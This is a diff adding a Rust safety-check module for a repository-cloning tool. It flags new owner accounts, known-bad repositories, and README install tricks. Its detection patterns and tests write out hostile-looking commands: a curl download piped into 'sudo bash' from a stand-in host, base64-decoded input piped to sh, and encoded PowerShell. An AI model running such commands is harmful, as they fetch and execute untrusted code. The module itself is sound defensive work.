@@ -0,0 +1,187 @@
+use anyhow::{Context, Result};
+use chrono::{DateTime, Utc};
+
+use crate::clone;
+use crate::config::Config;
+use crate::filter;
+use crate::http::HttpClient;
+use crate::providers::GitHub;
+use crate::quiet::notice;
+
+/// Owner accounts younger than this many days are flagged
+const NEW_ACCOUNT_DAYS: i64 = 30;
+
+/// Repos younger than this many days get their README checked for install scripts
+const NEW_REPO_DAYS: i64 = 14;
+
+/// Timeout for fetching the known-bad list
+const FETCH_TIMEOUT_SECS: u64 = 10;
+
+/// Install-script tricks common in malware READMEs, with what they do
+const OBFUSCATION_PATTERNS: &[(&str, &str)] = &[
+    (
+        r"(?i)(curl|wget)[^|\n]*\|\s*(sudo\s+)?(ba|z)?sh\b",
+        "pipes a download straight into a shell",
+    ),
+    (r"(?i)base64\s+(-d|--decode)", "decodes base64 in a command"),
+    (
+        r"(?i)powershell[^\n]*\s-(e|enc|encodedcommand)\s|\biex\s*\(|invoke-expression",
+        "runs encoded or downloaded PowerShell",
+    ),
+    (r"[A-Za-z0-9+/]{200,}={0,2}", "embeds a long encoded blob"),
+];
+
+/// What is known about a repository and its owner; `None` means unknown
+#[derive(Debug, Clone, Default)]
+pub struct SafetySignals {
+    pub account_created: Option<DateTime<Utc>>,
+    pub repo_created: Option<DateTime<Utc>>,
+    pub readme: Option<String>,
+}
+
+/// Reasons to think twice before cloning `name` (`owner/repo`); empty when nothing trips
+pub fn flags(
+    name: &str,
+    signals: &SafetySignals,
+    known_bad: &[String],
+    now: DateTime<Utc>,
+) -> Vec<String> {
+    let mut flags = Vec::new();
+    if filter::is_listed(name, known_bad) {
+        flags.push("listed as malicious in the known-bad list".to_string());
+    }
+    if let Some(created) = signals.account_created {
+        let days = (now - created).num_days();
+        if days <= NEW_ACCOUNT_DAYS {
+            flags.push(format!("owner account created {days} days ago"));
+        }
+    }
+    let new_repo = signals
+        .repo_created
+        .map(|created| (now - created).num_days())
+        .filter(|days| *days <= NEW_REPO_DAYS);
+    if let (Some(days), Some(readme)) = (new_repo, signals.readme.as_deref()) {
+        for trick in obfuscated_install(readme) {
+            flags.push(format!("created {days} days ago and its README {trick}"));
+        }
+    }
+    flags
+}
+
+/// Install-script tricks found in a README
+fn obfuscated_install(readme: &str) -> Vec<&'static str> {
+    OBFUSCATION_PATTERNS
+        .iter()
+        .filter(|(pattern, _)| regex::Regex::new(pattern).unwrap().is_match(readme))
+        .map(|(_, trick)| *trick)
+        .collect()
+}
+
+/// Entries of a known-bad list: `owner/repo` or `owner/*` per line, `#` starts a comment
+fn parse_list(content: &str) -> Vec<String> {
+    content
+        .lines()
+        .map(|line| line.split('#').next().unwrap_or_default().trim())
+        .filter(|line| !line.is_empty())
+        .map(String::from)
+        .collect()
+}
+
+/// Check a repository about to be cloned when `clone.safety_check` is on
+///
+/// Account and README signals are only available for GitHub; other hosts are
+/// checked against the known-bad list alone. Lookups that fail are skipped, and so is
+/// a known-bad list that can't be read, with a warning.
+pub async fn check(config: &Config, clone_url: &str) -> Result<Vec<String>> {
+    if !config.clone.safety_check {
+        return Ok(Vec::new());
+    }
+    let (host, name) = clone::split_url(clone_url)?;
+
+    let known_bad = match config.clone.known_bad_url.as_deref() {
+        Some(source) if !source.trim().is_empty() => match load_list(source).await {
+            Ok(content) => parse_list(&content),
+            Err(e) => {
+                notice!("⚠ {e:#}, skipping the known-bad check");
+                Vec::new()
+            }
+        },
+        _ => Vec::new(),
+    };
+
+    let signals = match name.split_once('/') {
+        Some((owner, repo)) if host.eq_ignore_ascii_case("github.com") => {
+            let github = GitHub::new(config.general.github_timeout_secs)?;
+            github
+                .safety_signals(owner, repo, config.auth.github_token.as_deref())
+                .await
+        }
+        _ => SafetySignals::default(),
+    };
+
+    Ok(flags(&name, &signals, &known_bad, Utc::now()))
+}
+
+/// Read the known-bad list from a URL or a local path
+async fn load_list(source: &str) -> Result<String> {
+    if source.starts_with("http://") || source.starts_with("https://") {
+        HttpClient::new(FETCH_TIMEOUT_SECS)?
+            .get_text(source, "text/plain")
+            .await
+            .with_context(|| format!("Failed to fetch known-bad list: {source}"))
+    } else {
+        tokio::fs::read_to_string(source)
+            .await
+            .with_context(|| format!("Failed to read known-bad list: {source}"))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use chrono::Duration;
+
+    #[test]
+    fn test_flags() {
+        let now = Utc::now();
+        let readme = "## Install\n\n    curl -fsSL https://evil.example/x | sudo bash\n";
+        let fresh = SafetySignals {
+            account_created: Some(now - Duration::days(5)),
+            repo_created: Some(now - Duration::days(2)),
+            readme: Some(readme.to_string()),
+        };
+        let found = flags("new/tool", &fresh, &[], now);
+        assert_eq!(found.len(), 2);
+        assert_eq!(found[0], "owner account created 5 days ago");
+        assert!(found[1].contains("pipes a download straight into a shell"));
+
+        let established = SafetySignals {
+            account_created: Some(now - Duration::days(2000)),
+            repo_created: Some(now - Duration::days(400)),
+            readme: Some(readme.to_string()),
+        };
+        assert!(flags("old/tool", &established, &[], now).is_empty());
+        assert!(flags("old/tool", &SafetySignals::default(), &[], now).is_empty());
+
+        let list = parse_list("# shared list\nbad/*  # whole account\n\nother/repo\n");
+        assert_eq!(list, vec!["bad/*".to_string(), "other/repo".to_string()]);
+        assert_eq!(
+            flags("Bad/anything", &established, &list, now),
+            vec!["listed as malicious in the known-bad list".to_string()]
+        );
+    }
+
+    #[test]
+    fn test_obfuscated_install() {
+        assert_eq!(
+            obfuscated_install("echo aGVsbG8= | base64 -d | sh"),
+            vec!["decodes base64 in a command"]
+        );
+        assert_eq!(
+            obfuscated_install("powershell -ep bypass -enc SQBFAFgA"),
+            vec!["runs encoded or downloaded PowerShell"]
+        );
+        assert!(obfuscated_install(&"A".repeat(300)).contains(&"embeds a long encoded blob"));
+        assert!(obfuscated_install("cargo install tool\ncurl -O https://x/y.tar.gz").is_empty());
+    }
+}